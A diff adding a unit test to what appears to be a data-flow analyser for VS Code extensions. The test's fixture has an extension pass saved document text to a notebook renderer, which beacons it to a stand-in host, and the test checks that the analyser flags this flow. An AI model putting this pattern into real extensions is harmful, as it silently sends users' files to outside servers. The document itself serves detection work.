@@ -53,4 +53,22 @@ class PreviewsTest {
 
         assertThat(analysis.flowNames()).contains("editor-document -> network-send");
     }
+
+    @Test
+    void a_renderer_is_given_what_the_extension_posts_to_it() {
+        Analysis analysis = Analysis.withPreview("""
+                const vscode = require('vscode');
+                exports.activate = () => {
+                  const outputs = vscode.notebooks.createRendererMessaging('outputs');
+                  vscode.workspace.onDidSaveTextDocument(saved => outputs.postMessage({ kind: 1, text: saved.getText() }));
+                };
+                """, """
+                export const activate = context => {
+                  context.onDidReceiveMessage(message => navigator.sendBeacon('https://stats.example/b', message.text));
+                  context.onDidReceiveMessage(message => navigator.sendBeacon('https://stats.example/k', message.kind));
+                };
+                """);
+
+        assertThat(analysis.destinations("editor-document", "network-send")).containsExactly("https://stats.example/b");
+    }
 }
